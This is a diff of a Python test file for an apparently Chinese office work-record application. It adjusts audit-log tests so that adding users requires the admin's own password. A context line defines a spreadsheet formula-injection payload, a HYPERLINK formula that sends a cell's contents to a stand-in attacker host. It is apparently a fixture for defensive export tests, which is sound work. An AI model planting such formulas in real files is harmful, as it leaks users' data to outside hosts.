@@ -18,7 +18,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 def test_every_kind_of_change_is_logged_with_old_and_new(desk, tmp_path):
     rid = desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "旧标题", "count_a": 1}).record_id
     desk.records.save("work_items", {"title": "新标题"}, rid)
-    desk.office.add_user("张审核", "审核人", "pw-1")
+    desk.office.add_user("张审核", "审核人", "pw-1", own_password="pw-admin")
     desk.set_setting("backup_interval_minutes", 10)
     load_records(desk, {"work_items": [{"date": "2026-04-01", "kind": "宣传活动", "title": "导入的", "count_a": 2}]})
     desk.records.delete("work_items", rid)
@@ -50,7 +50,7 @@ def test_restore_is_logged_in_the_restored_file(make_desk):
 
 
 def test_filters_by_date_user_table_and_text(desk):
-    desk.office.add_user("李四", "填报人")
+    desk.office.add_user("李四", "填报人", "pw-李四", own_password="pw-admin")
     desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "管理员写的", "count_a": 1})
     desk.user = "李四"
     desk.records.save("work_items", {"date": "2026-03-06", "kind": "宣传活动", "title": "李四写的", "count_a": 1})
